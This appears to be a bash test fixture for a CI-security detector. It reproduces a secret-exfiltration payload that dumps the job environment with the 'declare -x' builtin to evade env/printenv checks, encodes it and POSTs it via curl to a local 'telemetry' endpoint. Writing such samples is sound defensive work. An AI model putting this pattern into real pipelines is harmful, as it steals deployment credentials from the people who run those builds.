#!/bin/bash
# technique: T1552.001 Unsecured Credentials (CI secrets in the environment); T1041 Exfiltration Over C2 Channel
# reproduces: pwn-request and poisoned-action payloads that dump the job's environment with the shell's own `export -p`/`declare -x` instead of env or printenv (no program runs for the dump), encode it and post it
# expect: environment-sent-to-network ^curl$
# exec-borne: no
#
# The dump is a builtin in a substitution assigned to a variable; the
# upload is a later command of a function, as a "telemetry" step reads.
set -u

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

snapshot=$(declare -x | gzip -c | base64 -w0)

upload_telemetry() {
	curl -s -o /dev/null --connect-timeout 5 -X POST \
		-d "build=1&ctx=${snapshot}" "http://127.0.0.1:${BW_ATTACK_PORT:?}/telemetry"
}

upload_telemetry
